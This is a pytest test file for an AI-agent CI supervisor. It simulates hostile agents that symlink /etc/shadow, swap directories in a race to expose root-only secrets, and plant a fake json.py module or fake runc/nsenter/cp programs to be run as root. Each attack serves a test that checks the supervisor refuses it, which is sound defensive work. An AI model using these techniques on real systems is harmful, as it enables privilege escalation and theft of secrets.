STATE_THIEF_AGENT = r"""
echo agent-ran > agent-ran
for root in .ci-state via-ci-state; do
  [ -d "$root" ] || continue
  mv "$root" "$root.taken" 2>/dev/null
  mkdir -p "$root/slot0/state" && echo pwned > "$root/slot0/state/agent-supervisor.db"
  ln -sf /etc/shadow "$root/slot0/seccomp.sock"
done
"""


@pytest.mark.parametrize("where", ["inside", "through_a_symlink", "copy_root_inside",
                                   "out_through_the_checkout"])
def test_embedded_roots_inside_the_checkout_are_refused_before_the_agent_starts(
        ci: Path, repo: Path, tmp_root: Path, where: str) -> None:
    """The operator pointed $AGENT_SUPERVISOR_CI_ROOT (or the copy root) into the checkout,
    directly or through a symlink outside it: the agent could replace the runner's state. The
    run is refused (exit 6, invalid_request naming the variable) before anything is made there
    and before the agent starts: it never ran, and the checkout is as it was."""
    env: dict[str, str] = {}
    if where == "inside":
        env["AGENT_SUPERVISOR_CI_ROOT"] = str(repo / ".ci-state")
    elif where == "through_a_symlink":
        (tmp_root / "via").symlink_to(repo)
        env["AGENT_SUPERVISOR_CI_ROOT"] = str(tmp_root / "via" / "via-ci-state")
    elif where == "out_through_the_checkout":
        # Resolved, it lies outside; but root would make and write everything through the
        # checkout's `out`, which the agent can point anywhere while it runs.
        (tmp_root / "elsewhere").mkdir()
        (repo / "out").symlink_to(tmp_root / "elsewhere")
        env["AGENT_SUPERVISOR_CI_ROOT"] = str(repo / "out" / "ci-state")
    else:
        root_owned(repo)
        env["AGENT_SUPERVISOR_CI_COPY_ROOT"] = str(repo / ".copies")
    before = sorted(p.name for p in repo.iterdir())
    result = run_embedded(ci, "--workspace", str(repo), "--allow-changes", "**", "--",
                          "sh", "-c", STATE_THIEF_AGENT, **env)
    assert result.returncode == 6, result.stdout + result.stderr
    [variable] = env
    assert "invalid_request" in result.stderr and variable in result.stderr
    assert "inside the workspace" in result.stderr
    assert sorted(p.name for p in repo.iterdir()) == before  # nothing made, the agent never ran
    assert not (repo / "agent-ran").exists()
    assert not os.path.exists(ci / "slot0")
    assert not (tmp_root / "elsewhere" / "ci-state").exists()


# What a local user (nobody) does to a directory of the embedded roots it made first, in a
# world-writable directory such as /var/tmp (the copy root's default was there): once the agent
# runs (its `sleep` shows in /proc), the copy's directory is swapped for one of the attacker's
# whose `checkout` leads to root's secrets, which the run then applies "back" into the
# checkout; or the state root's quarantine is pointed elsewhere before the run.
SWAPPER = r"""
import os, sys, time
root, secrets = sys.argv[1], sys.argv[2]
deadline = time.monotonic() + 120
while time.monotonic() < deadline:
    for pid in os.listdir("/proc"):
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                if f.read() == b"sleep\x002.71828\x00":
                    os.rename(f"{root}/slot0", f"{root}/taken")
                    os.mkdir(f"{root}/slot0")
                    os.symlink(secrets, f"{root}/slot0/checkout")
                    sys.exit(0)
        except OSError:
            pass
    time.sleep(0.005)
sys.exit(1)
"""


def _as_nobody(*argv: str) -> list[str]:
    return ["setpriv", "--reuid=nobody", "--regid=nogroup", "--clear-groups", "--", *argv]


def _world_writable(tmp_root: Path) -> Path:
    """A directory as /var/tmp is: root's, world-writable, sticky."""
    shared = tmp_root / "var-tmp"
    shared.mkdir()
    shared.chmod(0o1777)
    return shared


def test_a_copy_root_someone_else_made_is_refused_before_the_copy(
        ci: Path, repo: Path, tmp_root: Path) -> None:
    """A root-owned checkout is copied under the copy root, set here in a /var/tmp, where any
    local user can make that directory first and later swap what root works in: here the copy
    the run reads back after the agent, for root's own secrets. The run is refused before
    anything is copied (exit 6, naming the variable and the owner), the checkout untouched."""
    require(shutil.which("setpriv") is not None, "needs setpriv (util-linux)")
    root_owned(repo)
    secrets = tmp_root / "root-only"
    secrets.mkdir(mode=0o700)
    (secrets / "stolen.txt").write_text("root's secret\n")
    copies = _world_writable(tmp_root) / "agent-supervisor-ci"
    subprocess.run(_as_nobody("mkdir", str(copies)), check=True)
    swapper = subprocess.Popen(_as_nobody(sys.executable, "-I", "-c", SWAPPER, str(copies),
                                          str(secrets)))
    try:
        result = run_embedded(ci, "--workspace", str(repo), "--allow-changes", "**", "--",
                              "sleep", "2.71828", AGENT_SUPERVISOR_CI_COPY_ROOT=str(copies))
    finally:
        swapper.kill()
        swapper.wait()
    assert not (repo / "stolen.txt").exists(), result.stdout + result.stderr
    assert (repo / "src" / "calc.py").exists()
    assert result.returncode == 6, result.stdout + result.stderr
    assert "invalid_request" in result.stderr and "AGENT_SUPERVISOR_CI_COPY_ROOT" in result.stderr
    assert "uid 65534" in result.stderr and "hint: use a directory only root" in result.stderr
    assert sorted(p.name for p in copies.iterdir()) == []


@pytest.mark.parametrize("made", ["directory", "dangling_symlink"])
def test_a_state_root_someone_else_can_write_is_refused_before_the_agent_starts(
        ci: Path, repo: Path, tmp_root: Path, made: str) -> None:
    """A variant: $AGENT_SUPERVISOR_CI_ROOT in a directory a local user made, its quarantine
    pointed at a root-only place: root would move the agent's planted .gitattributes there;
    or a symlink of theirs to nowhere where the root is to be made (a traceback before).
    Refused (exit 6) before the agent starts; nothing lands in the root-only place."""
    require(shutil.which("setpriv") is not None, "needs setpriv (util-linux)")
    elsewhere = tmp_root / "root-only"
    elsewhere.mkdir(mode=0o700)
    state = _world_writable(tmp_root) / "ci-state"
    if made == "directory":
        subprocess.run(_as_nobody("mkdir", str(state)), check=True)
        subprocess.run(_as_nobody("ln", "-s", str(elsewhere), str(state / "quarantine")),
                       check=True)
    else:
        subprocess.run(_as_nobody("ln", "-s", str(elsewhere / "ci-state"), str(state)),
                       check=True)
    # Watched as it is (nobody's directory; through the link, whatever a run made in
    # `elsewhere` fails the first assertion below).
    watched = state if made == "directory" else elsewhere
    with watched_state_root(watched):
        result = run_embedded(ci, "--workspace", str(repo), "--", "sh", "-c",
                              "echo '* filter=x' > .gitattributes; echo agent-ran",
                              AGENT_SUPERVISOR_CI_ROOT=str(state))
        residue = host_residue(watched)
    assert list(elsewhere.iterdir()) == [], result.stdout + result.stderr
    assert result.returncode == 6, result.stdout + result.stderr
    assert "agent-ran" not in result.stdout and not (repo / ".gitattributes").exists()
    assert "invalid_request" in result.stderr and "AGENT_SUPERVISOR_CI_ROOT" in result.stderr
    assert "Traceback" not in result.stderr
    assert residue == {}


def test_a_gateway_run_without_its_model_key_is_refused_with_125_and_a_hint(
        ci: Path, repo: Path, tmp_root: Path) -> None:
    """The profile's route reads MODEL_API_KEY from agentctl's environment: without it the
    agent never starts (no agent without its model), the status is docker's 125 for a run the
    supervisor could not start, and the CI log says which variable to give."""
    report_path = tmp_root / "report.json"
    result = run_embedded(ci, "--profile", "coding-agent", "--workspace", str(repo),
                          "--report", str(report_path), "--", "sh", "-c",
                          "echo started > started", MODEL_API_KEY="")
    assert result.returncode == 125, result.stdout + result.stderr
    assert "egress_setup_failed" in result.stderr and "has no MODEL_API_KEY" in result.stderr
    assert "hint: give the supervisor MODEL_API_KEY" in result.stderr, result.stderr
    assert "--preserve-env=MODEL_API_KEY" in result.stderr
    assert not noise(result.stderr), result.stderr
    assert not (repo / "started").exists()
    report = json.loads(report_path.read_text())
    assert (report["ending"], report["exit_status"]) == ("not_started", 125)
    assert [e["code"] for e in report["errors"]] == ["egress_setup_failed"]
    assert report["manifest"]["changes"] == [] and report["teardown"]["clean"]


def test_a_command_that_cannot_run_exits_126_or_127_as_docker_run_does(ci: Path) -> None:
    for command, status, code in ((["no-such-command"], 127, "command_not_found"),
                                  (["/etc/passwd"], 126, "command_not_executable")):
        result = run_embedded(ci, "--", *command)
        assert result.returncode == status, result.stdout + result.stderr
        assert code in result.stderr, result.stderr


# A module the runner's watchdog imports (json), planted where a CI job's root agentctl is run
# from (its checkout, which the agent and the checkout's owner write) and on its $PYTHONPATH:
# run by a root interpreter, it records so.
PLANTED = ("import os, sys\nwith open({marker!r}, 'a') as f:\n"
           "    f.write(f'{{os.getuid()}} {{sys.argv}}\\n')\n")


def test_no_root_process_of_a_run_imports_from_the_checkout_or_pythonpath(
        ci: Path, tmp_root: Path) -> None:
    """agentctl's runner is isolated (`python -I`: nothing from the current directory or
    $PYTHONPATH) and so is every interpreter it starts as root: its watchdog, started at its
    entry, would otherwise import the checkout's json.py before the standard library's."""
    marker = tmp_root / "imported-as-root"
    checkout, elsewhere = tmp_root / "checkout", tmp_root / "pythonpath"
    for directory in (checkout, elsewhere):
        directory.mkdir()
        (directory / "json.py").write_text(PLANTED.format(marker=str(marker)))
        chown_tree(directory, WORKSPACE_UID)
    result = subprocess.run(
        [sys.executable, "-I", "-m", "supervisor.cli", "run", "--embedded", "--", "true"],
        env=agentctl_env(ci, PYTHONPATH=str(elsewhere)), capture_output=True, text=True,
        timeout=300, cwd=checkout)
    assert result.returncode == 0, result.stdout + result.stderr
    assert not marker.exists(), marker.read_text()


# An executable named as a host program the run starts as root (runc, nsenter, cp, git...),
# planted in the checkout: run by root, it records so, then fails.
PLANTED_PROGRAM = "#!/bin/sh\necho \"$(id -u) $0 $*\" >> {marker}\nexit 1\n"


@pytest.mark.parametrize("path", ["leading", "dot"])
def test_no_host_program_of_a_run_is_found_in_the_checkout_through_a_relative_path_entry(
        ci: Path, repo: Path, tmp_root: Path, path: str) -> None:
    """A CI job's $PATH with an empty entry (`PATH="$TOOLS:$PATH"` with $TOOLS unset) or `.`
    names the current directory, where agentctl runs: the checkout, which an earlier run's
    agent wrote (here a real one planting `runc`, `nsenter` and `cp`). The programs the run
    starts as root are looked up only in $PATH's absolute entries."""
    marker = tmp_root / "run-as-root"
    planted = "; ".join(
        f"printf %s {shlex.quote(PLANTED_PROGRAM.format(marker=marker))} > {name}; "
        f"chmod 755 {name}" for name in ("runc", "nsenter", "cp", "git", "nft"))
    first = run_embedded(ci, "--workspace", str(repo), "--allow-changes", "*", "--",
                         "sh", "-c", f"{planted}; echo agent-done")
    assert first.returncode == 0, first.stdout + first.stderr
    assert os.access(repo / "runc", os.X_OK) and not marker.exists()
    host = os.environ["PATH"]
    relative = f":{host}" if path == "leading" else f".:{host}"
    result = subprocess.run(
        agentctl_command("run", "--embedded", "--workspace", str(repo), "--allow-changes",
                         "src/**", "--", "sh", "-c", "echo y > src/calc.py; echo agent-done"),
        env=agentctl_env(ci, PATH=relative), capture_output=True, text=True, timeout=300,
        cwd=repo)
    assert not marker.exists(), marker.read_text()
    assert result.returncode == 0, result.stdout + result.stderr
    assert "agent-done" in result.stdout



@pytest.mark.parametrize("count,size", [(6, 16 << 20), (100, 1 << 20)])
def test_what_the_quarantine_keeps_of_a_run_is_bounded(
        ci: Path, repo: Path, count: int, size: int) -> None:
    """Each planted .gitattributes (host code at any depth) is moved out of the checkout into
    root's quarantine, in the state root (/run by default: memory), where an agent planting
    many of them, each within the per-file cap, filled it without bound. What one run keeps
    stays within MAX_KEPT_TOTAL; the rest is deleted all the same, and said so."""
    from supervisor.ci.quarantine import MAX_KEPT_TOTAL

    agent = (f"i=0; while [ $i -lt {count} ]; do mkdir -p d$i; "
             f"head -c {size} /dev/zero > d$i/.gitattributes; i=$((i+1)); done; echo agent-done")
    report_path = ci.parent / "report.json"
    result = run_embedded(ci, "--workspace", str(repo), "--report", str(report_path), "--",
                          "sh", "-c", agent)
    assert result.returncode == 83, result.stdout + result.stderr
    assert "agent-done" in result.stdout
    kept = sum(path.stat().st_size for path in (ci / "quarantine").rglob("*") if path.is_file())
    assert count * size > MAX_KEPT_TOTAL >= kept > 0
    quarantined = json.loads(report_path.read_text())["scope"]["quarantined"]
    planted = [q for q in quarantined if q["path"].endswith(".gitattributes")]
    assert len(planted) == count
    assert sum(q.get("kept_bytes", 0) for q in planted) == kept
    assert [q for q in planted if q.get("kept") is False]
    assert not list(repo.rglob(".gitattributes"))  # none stays in the checkout



def test_the_jobs_log_lists_a_bounded_number_of_an_agents_paths(
        ci: Path, repo: Path, tmp_root: Path) -> None:
    """An agent that leaves thousands of paths out of scope (and of planted host code) had each
    one printed on stderr, the CI job's log, line after line; now at most SAID_AT_MOST of each
    list, and how many more. The report still lists every one."""
    from supervisor.ci.runner import SAID_AT_MOST

    report_path = tmp_root / "report.json"
    result = run_embedded(
        ci, "--workspace", str(repo), "--allow-changes", "src/**", "--report", str(report_path),
        "--", "sh", "-c", "mkdir stray && cd stray && seq 1 3000 | xargs touch && "
        "for i in $(seq 1 120); do mkdir d$i && : > d$i/.gitattributes; done; echo agent-done")
    assert result.returncode == 83, result.stdout + result.stderr
    listed = [line for line in result.stderr.splitlines() if line.startswith("  ")]
    assert len(listed) <= 2 * (SAID_AT_MOST + 1), len(listed)
    report = json.loads(report_path.read_text())
    violations, quarantined = report["scope"]["violations"], report["scope"]["quarantined"]
    assert len(violations) > 3000 and len(quarantined) >= 120
    assert f"... and {len(violations) - SAID_AT_MOST} more" in result.stderr
    assert f"... and {len(quarantined) - SAID_AT_MOST} more" in result.stderr


# Names that are not UTF-8: \377 and \376 are bytes no UTF-8 text holds.
UNDECODABLE_AGENT = r"""
set -e
printf 'x = 1\n' > "src/mod_$(printf '\377').py"
mkdir "stray_$(printf '\376')" && : > "stray_$(printf '\376')/f"
ln -s "/nowhere/$(printf '\375')" "src/link_$(printf '\374')"
echo agent-done
"""

UNDECODABLE_COMMIT_AGENT = r"""
set -e
printf 'y = 2\n' > "src/com_$(printf '\373').py"
git add -A src
git -c user.name=agent -c user.email=agent@example.invalid commit -q -m "Add an undecodable name"
echo agent-done
"""


@pytest.mark.parametrize("agent,status", [(UNDECODABLE_AGENT, 83), (UNDECODABLE_COMMIT_AGENT, 0)],
                         ids=["scope_and_links", "committed"])
def test_names_that_are_not_utf8_are_judged_reported_and_signed(
        ci: Path, repo: Path, tmp_root: Path, agent: str, status: int) -> None:
    """An agent that names files with bytes that are not UTF-8 (in scope, out of scope, a
    symlink's target, a commit's files) still gets its run judged, its report written, signed
    and verified, and its summary written, with nothing on the log but what is said of it:
    such a name stopped the report being made at all, a traceback and no evidence."""
    private, public = keygen(tmp_root)
    report_path, summary_path = tmp_root / "report.json", tmp_root / "summary.md"
    result = run_embedded(ci, "--workspace", str(repo), *SCOPE, "--report", str(report_path),
                          "--summary", str(summary_path), "--signing-key", str(private),
                          "--", "sh", "-c", agent)
    assert result.returncode == status, result.stdout + result.stderr
    assert "agent-done" in result.stdout
    assert not noise(result.stderr), result.stderr
    report = json.loads(report_path.read_text())
    checked = verify(report_path, public, "--repo", str(repo))
    assert checked.returncode == 0, checked.stdout + checked.stderr
    assert summary_path.stat().st_size > 0
    changes = {c["path"] for c in report["manifest"]["changes"]}
    violations = {v["path"] for v in report["scope"]["violations"]}
    if status == 83:
        # The report's JSON keeps each byte (json's \udcXX escapes, os.fsencode's inverse).
        assert os.fsdecode(b"src/mod_\xff.py") in changes - violations
        assert {(v["path"], v["why"]) for v in report["scope"]["violations"]} == {
            (os.fsdecode(b"src/link_\xfc"), "symlink_out_of_workspace"),
            (os.fsdecode(b"stray_\xfe"), "created outside --allow-changes"),
            (os.fsdecode(b"stray_\xfe/f"), "created outside --allow-changes")}
        # The job's log names them with their bytes escaped, and the summary alike.
        assert "stray_\\xfe" in result.stderr
        assert "stray_\\xfe" in summary_path.read_text()
    else:
        assert os.fsdecode(b"src/com_\xfb.py") in changes and not violations
        [commit] = report["provenance"]["commits"]
        assert {f["path"] for f in commit["files"]} == {os.fsdecode(b"src/com_\xfb.py")}
